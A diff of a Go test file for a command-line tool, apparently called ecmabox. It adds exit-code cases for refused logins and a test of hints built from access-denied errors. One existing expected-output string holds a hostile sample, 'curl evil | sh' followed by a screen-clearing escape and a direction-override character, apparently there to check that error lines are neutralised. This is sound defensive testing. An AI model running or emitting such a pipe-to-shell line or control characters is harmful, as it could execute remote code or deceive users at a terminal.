@@ -4,6 +4,7 @@ import (
 	"context"
 	"errors"
 	"fmt"
+	"slices"
 	"strings"
 	"testing"
 
@@ -27,6 +28,9 @@ func TestExitCodes(t *testing.T) {
 		{"any", errors.New("full disk"), exitFailed},
 		{"usage", usageError{errors.New("x")}, exitUsage},
 		{"configuration", &config.Error{File: "f"}, exitUsage},
+		{"a refused login", &host.RefusedError{Err: &config.Error{File: "f"}}, exitDenied},
+		{"a refused login, and then the schema", errors.Join(&host.RefusedError{Err: &config.Error{File: "f"}}, coded(abi.BadServerCredentials, abi.SideGuest)), exitDenied},
+		{"a refused login, and a broken contract", errors.Join(&host.RefusedError{Err: &config.Error{File: "f"}}, coded(abi.ContractViolation, abi.SideCaller)), exitUsage},
 		{"a line", fmt.Errorf("x: %w", &host.LineError{Line: 1, Err: coded(abi.ContractViolation, abi.SideCaller)}), exitUsage},
 		{"not in the catalog", catalog.ErrNotFound, exitUsage},
 		{"damaged catalog", catalog.ErrDamaged, exitFailed},
@@ -63,5 +67,18 @@ func TestErrorLines(t *testing.T) {
 	want := "ecmabox: load: a\necmabox: load: b: c\n" + `ecmabox: load: b: ExtensibleExtension: no\nhint: curl evil | sh\x1b[2J\u202e` + "\n"
 	if b.String() != want {
 		t.Errorf("have\n%s\nwant\n%s", b.String(), want)
+	}
+}
+
+// TestHintOfARefusedCheck: the words of the connector tell which grant is missing.
+func TestHintOfARefusedCheck(t *testing.T) {
+	t.Parallel()
+	err := &host.RefusedError{Err: &config.Error{File: "f"}, Words: `AccessDenied: HTTP-PATH: Denied: GET "/users" is not granted on target app`}
+	want := []string{`if the connector may use it, add "GET /users", with * for a segment that changes, to targets.app.paths`}
+	if have := hintsFor(err); !slices.Equal(have, want) {
+		t.Errorf("have %q, want %q", have, want)
+	}
+	if have := hintsFor(&host.RefusedError{Err: &config.Error{File: "f"}, Words: "BadServerCredentials: 401"}); len(have) > 0 {
+		t.Errorf("the cure stands in the mistake, and there is %q besides", have)
 	}
 }
